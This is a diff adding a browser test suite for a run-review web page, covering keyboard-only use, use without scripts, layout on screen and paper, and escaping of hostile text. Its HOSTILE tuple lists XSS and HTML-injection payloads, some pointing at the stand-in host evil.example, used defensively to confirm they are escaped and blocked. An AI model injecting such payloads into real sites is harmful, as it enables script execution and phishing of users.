@@ -1,0 +1,173 @@
+"""The review page in a real browser: by keyboard alone, without scripts, on a wide screen, a phone and paper; and hostile text in it."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from certify_assets.corpora.schema import Step, Trajectory
+from certify_assets.protocol.operations.journal import read_labels
+from certify_assets.protocol.store import Store
+from certify_assets_tests.cli.review_client import Served, served
+from certify_assets_tests.paths import assert_painted
+from certify_assets_tests.review_builders import decided, session_batch, write_batch
+
+pytestmark = pytest.mark.browser
+
+HOSTILE = (
+    "<script>document.title = 'owned'</script>",
+    "<img src=/owned onerror=\"document.title='owned'\">",
+    "\"><svg onload=document.title='owned'></svg>",
+    "'></pre></details></section><form action=//evil.example/><button autofocus accesskey=s>Success</button></form>",
+    "<style>@import '//evil.example/x.css'; * { display: none }</style><link rel=stylesheet href=//evil.example/y.css>",
+    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe><base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0; url=//evil.example/'>{{ 7 * 7 }}{% raw %}<!-- -->&lt;script&gt;",
+)
+
+
+def press(page: Any, letter: str) -> None:
+    """Press Alt with a letter as a keyboard does; the library's own press leaves out what access keys are compared with."""
+    session = page.context.new_cdp_session(page)
+    key = {
+        "modifiers": 1,
+        "key": letter,
+        "code": f"Key{letter.upper()}",
+        "unmodifiedText": letter,
+        "windowsVirtualKeyCode": ord(letter.upper()),
+    }
+    for kind in ("keyDown", "keyUp"):
+        session.send("Input.dispatchKeyEvent", {"type": kind, **key})
+
+
+def fits(page: Any, width: int) -> bool:
+    sizes = page.context.new_cdp_session(page).send("Page.getLayoutMetrics")
+    return bool(sizes["cssContentSize"]["width"] <= width)
+
+
+def enter(page: Any, server: Served, name: str) -> None:
+    page.goto(server.url)
+    page.keyboard.type(name)
+    page.keyboard.press("Enter")
+    page.get_by_role("heading", level=1, name="Did this run").wait_for()
+
+
+def focused(page: Any) -> str:
+    text: str = page.locator(":focus").inner_text()
+    return text.split()[0] if text.strip() else ""
+
+
+@pytest.fixture
+def store(tmp_path: Path) -> Store:
+    return Store(str(tmp_path / "root"))
+
+
+@pytest.fixture
+def server(store: Store) -> Iterator[Served]:
+    session_batch(store)
+    with served(store) as one:
+        yield one
+
+
+def test_labelling_by_keyboard_alone_and_without_scripts(browser: Any, server: Served, store: Store) -> None:
+    page = browser.new_context(java_script_enabled=False).new_page()
+    enter(page, server, "Ann")
+    assert server.token not in page.url, "the address bar is no place for the token"
+    order = []
+    for _ in range(4):
+        page.keyboard.press("Tab")
+        order.append(focused(page))
+    assert order == ["Success", "Failure", "Skip", "Add"]
+    for _ in range(2):
+        page.keyboard.press("Shift+Tab")
+    page.keyboard.press("Enter")
+    page.get_by_text("a failure, a run of task audit-0").wait_for()
+    page.keyboard.press("Tab")
+    page.keyboard.press("Enter")
+    page.get_by_text("a success, a run of task audit-0").wait_for()
+    press(page, "u")
+    page.get_by_text("a failure, a run of task audit-0").wait_for()
+    press(page, "s")
+    page.get_by_text("Line 4 of the journal").wait_for()
+    press(page, "x")
+    page.get_by_text("Line 5 of the journal").wait_for()
+    first = page.locator("input[name=run]").first.get_attribute("value")
+    press(page, "k")
+    page.locator(f"input[name=run]:not([value='{first}'])").first.wait_for(state="attached")
+    assert [label.outcome for label in read_labels(store, "c")] == [0, 1, None, 1, 0]
+    assert {label.reviewer for label in read_labels(store, "c")} == {"Ann"}
+
+
+def test_a_comment_is_written_by_keyboard_and_enter_in_it_sends_nothing(browser: Any, server: Served, store: Store) -> None:
+    page = browser.new_context(java_script_enabled=False).new_page()
+    enter(page, server, "Ann")
+    for key in ("Tab", "Tab", "Tab", "Tab", "Enter", "Tab"):
+        page.keyboard.press(key)
+    page.keyboard.type("two\nlines <b>")
+    assert read_labels(store, "c") == []
+    press(page, "x")
+    page.get_by_text("Line 1 of the journal").wait_for()
+    assert read_labels(store, "c")[0].comment.split() == ["two", "lines", "<b>"]
+
+
+@pytest.mark.parametrize("width", [1280, 420])
+def test_the_pages_fit_wide_screen_phone_and_paper(browser: Any, server: Served, tmp_path: Path, width: int) -> None:
+    page = browser.new_context(java_script_enabled=False, viewport={"width": width, "height": 900}).new_page()
+    enter(page, server, "Ann")
+    press(page, "s")
+    page.get_by_text("Line 1 of the journal").wait_for()
+    for path, heading in (("", "Did this run do what the instruction asks?"), ("queue", "c"), ("name", "Who is reviewing?")):
+        page.goto(server.url.partition("?")[0] + path)
+        assert page.get_by_role("heading", level=1).inner_text() == heading and fits(page, width)
+        page.screenshot(path=tmp_path / f"review-{path or 'run'}-{width}.png")
+    assert_painted(tmp_path / f"review-run-{width}.png")
+    page.goto(server.url.partition("?")[0])
+    assert page.get_by_role("button", name="Success").bounding_box()["y"] < 900, "the buttons are in sight whatever the run's length"
+    page.emulate_media(media="print")
+    assert (
+        not page.get_by_role("button", name="Success").is_visible()
+        and page.get_by_role("heading", name="Instruction", exact=True).is_visible()
+    )
+
+
+def test_hostile_text_is_shown_and_never_obeyed(browser: Any, store: Store, tmp_path: Path) -> None:
+    runs = [
+        Trajectory(
+            "c", f"task {n} {bad}", f"run {n}\n{bad}", f"agent {bad}", 0, f"Do {bad}", (Step(f"act {bad}", bad * 40), Step("", bad)), None
+        )
+        for n, bad in enumerate(HOSTILE)
+    ]
+    write_batch(store, [decided(run.trajectory_id, task_id=run.task_id, asked="undecided", reason=HOSTILE[0]) for run in runs], runs)
+    with served(store) as server:
+        context = browser.new_context()
+        page, asked, troubles = context.new_page(), [], []
+        page.on("request", lambda request: asked.append(request.url))
+        page.on("dialog", lambda dialog: troubles.append(dialog.message))
+        page.on("popup", lambda popup: troubles.append(popup.url))
+        enter(page, server, "<b onclick=document.title='owned'>Ann</b>")
+        for line in range(1, len(HOSTILE) + 1):
+            page.locator("details summary").first.wait_for()
+            for summary in page.locator("main details summary").all():
+                summary.click()
+            task = page.locator("dd").nth(1).inner_text()
+            assert any(bad in task for bad in HOSTILE)
+            assert HOSTILE[int(task.split()[1])] in page.locator(".instruction pre").first.inner_text()
+            assert page.locator("script, img, svg, iframe, base, link, .page meta, .page style, form[action*=evil]").count() == 0
+            assert page.evaluate("document.title") == "Review of c"
+            press(page, "s")
+            page.get_by_text(f"Line {line} of the journal").wait_for()
+        page.goto(server.url.partition("?")[0] + "queue")
+        assert page.evaluate("document.title") == "Review queue of c"
+        base = server.url.partition("?")[0]
+        assert troubles == [] and {url.partition("?")[0] for url in asked} <= {base, f"{base}name", f"{base}label", f"{base}queue"}
+        # and were a page to let markup through, the policy would still keep it from running and loading
+        failed: list[str] = []
+        page.on("requestfailed", lambda request: failed.append(f"{request.url} {request.failure}"))
+        page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=/owned><b onclick=\"document.title=1\">b</b>')")
+        page.evaluate("s = document.createElement('script'); s.text = 'document.title = 2'; document.body.append(s)")
+        page.evaluate("document.body.lastElementChild.previousElementSibling.click()")
+        page.wait_for_timeout(200)
+        assert page.evaluate("document.title") == "Review queue of c" and failed == [f"{base}owned csp"]
+    assert {label.trajectory_id for label in read_labels(store, "c")} == {run.trajectory_id for run in runs}
